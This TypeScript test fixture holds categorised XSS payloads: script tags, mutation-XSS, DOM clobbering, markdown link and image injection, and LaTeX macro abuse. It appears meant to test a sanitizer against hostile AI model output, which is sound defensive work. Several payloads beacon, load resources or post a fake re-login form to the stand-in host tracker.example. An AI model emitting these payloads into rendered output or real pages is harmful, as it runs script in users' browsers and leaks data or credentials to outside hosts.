/** `alert` in each of them would be a script of the model that runs; `tracker.example` a request to elsewhere. */
const scripts = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//tracker.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://tracker.example/p.png">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)>#x"/></svg>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="https://tracker.example/x.swf">',
  '<base href="https://tracker.example/">',
  '<meta http-equiv=refresh content="0;url=https://tracker.example">',
  '<link rel=stylesheet href="https://tracker.example/x.css">',
  '<style>@import "https://tracker.example/x.css"; *{background:url(https://tracker.example/b)}</style>',
  '<div style="background:url(https://tracker.example/b);position:fixed;inset:0">cover</div>',
  '<form action="https://tracker.example"><button>Sign in again</button></form>',
  '<video src="https://tracker.example/v.mp4" autoplay onloadstart=alert(1)></video>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<input autofocus onfocus=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<body onpageshow=alert(1)>',
];

const mutations = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<select><template><img src=x onerror=alert(1)></template></select>',
  '<xmp><p title="</xmp><img src onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
];

const clobbering = [
  '<img name=getElementById><form id=body><input name=attributes></form>',
  '<a id=config><a id=config name=url href="https://tracker.example">',
  '<form id=x><input name=parentNode><input name=nodeName></form>',
  '# constructor\n\n## __proto__\n\n### innerHTML',
];

const markdown = [
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](vbscript:alert(1)) [y](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](\u0001javascript:alert(1))',
  '<javascript:alert(1)> <https://a.example/"onmouseover=alert(1)>',
  '[x](https://a.example/"onmouseover="alert(1))',
  '[x](https://a.example "title\\" onmouseover=alert(1)")',
  '[x]: javascript:alert(1)\n\n[x]',
  '[x][r]\n\n[r]: <https://a.example/" onclick="alert(1)>',
  '![x](https://tracker.example/p.png) ![y](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x" onerror="alert(1)](https://tracker.example/p.png)',
  '![x](https://tracker.example/p.png"onerror="alert(1))',
  '[![x](javascript:alert(1))](javascript:alert(1))',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '```js\n</code></pre><img src=x onerror=alert(1)>\n```',
  '~~~html\n<script>alert(1)</script>\n',
  '    <script>alert(1)</script>\n',
  '`</code><img src=x onerror=alert(1)>`',
  '|<img src=x onerror=alert(1)>|b|\n|-|-|\n|</td></table><script>alert(1)</script>|`x`|',
  '- a\n\n  ```html\n  </pre><svg onload=alert(1)>\n  ```',
  '> <img src=x\n> onerror=alert(1)>',
  '[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: <img src=x onerror=alert(1)>',
  'See[^1]\n\n[^1]: [x](javascript:alert(1)) <script>alert(1)</script>',
  '&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;',
  '<span data-part="0">x</span> <sup data-note="1"><img src=x onerror=alert(1)></sup>',
];

const formulas = [
  '$\\href{javascript:alert(1)}{x}$ $\\url{javascript:alert(1)}$',
  '$\\includegraphics[height=1em]{https://tracker.example/p.png}$',
  '$$\n\\htmlStyle{background:url(https://tracker.example/b)}{x}\n$$',
  '$\\htmlClass{rail}{x} \\htmlId{body}{y} \\htmlData{x=1}{z}$',
  '$\\text{</span><img src=x onerror=alert(1)>}$',
  '$\\text{" onmouseover=alert(1) style="background:url(//tracker.example)}$',
  '$\\color{url(https://tracker.example)}{x}$ $\\textcolor{red;background:url(//tracker.example)}{x}$',
  '$\\rule{1000000em}{1000000em}$ $\\kern{99999em}x$',
  '$\\unicode{x3c}script\\unicode{x3e}$ \\(\\char`<img\\)',
];

/** What a hostile model writes, by how it attacks. */
export const payloads: Record<string, readonly string[]> = { scripts, mutations, clobbering, markdown, formulas };
